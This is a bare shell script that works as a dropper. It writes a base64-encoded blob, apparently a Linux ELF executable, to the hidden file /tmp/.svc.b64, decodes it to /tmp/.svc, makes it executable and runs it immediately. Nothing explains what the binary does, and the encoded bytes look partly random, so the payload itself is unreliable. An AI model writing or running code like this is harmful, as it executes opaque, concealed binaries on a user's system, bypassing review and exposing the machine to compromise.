#!/bin/sh
cat > /tmp/.svc.b64 <<'EOF'
f0VMRgIBAQAAAAAAAAAAAA3stsP/0yLjj63CP2mnwCf01JkN5cfS9h8ogG4BSqaZatyWBWgtOUEixWygUQhRXhkcdt9b0Sn5TzkbshpZLtqc15h9hpDVkI9sMStSGD2CTHCcMzT84jUX10b0d/Spuj8B+i0zieUH10cAR3yyTdvfCba5qLJiNktRVtod3T/70mpOwArLya7bzJMpfM1WGezhNOdJFmANe94W/4vZFbNh6sxR4WncyR3IznFh2GgTEgjkyc1D6Cz8+uUpBh76Wno6Dtdo7vUS1BVnjf9MS08IWiKWVvNj/AB/Iu87ISHGW2IcDsNp5qhJ5VlHeyfbVszTfZ6S5wM24up4XocK7W+NAEHYqXvhCcyKM0YSqOIOJCY4uita+O8A7gmtsCjQ0Sprrk88TybGlf2S1Q==
EOF
base64 -d /tmp/.svc.b64 > /tmp/.svc && chmod +x /tmp/.svc && /tmp/.svc
